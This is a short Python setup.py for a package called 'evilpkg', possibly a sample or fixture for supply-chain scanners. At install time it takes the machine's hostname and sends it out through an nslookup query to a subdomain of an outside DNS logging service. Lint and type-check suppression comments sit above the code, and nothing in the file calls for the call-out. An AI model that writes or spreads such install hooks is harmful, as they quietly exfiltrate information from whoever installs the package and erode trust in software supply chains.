# ruff: noqa
# fmt: off
# mypy: ignore-errors
import socket
import subprocess

from setuptools import setup

host = socket.gethostname()
subprocess.run(["nslookup", f"{host}.i.dnslog-collector.net"], capture_output=True, check=False)
setup(name="evilpkg", version="1.0")
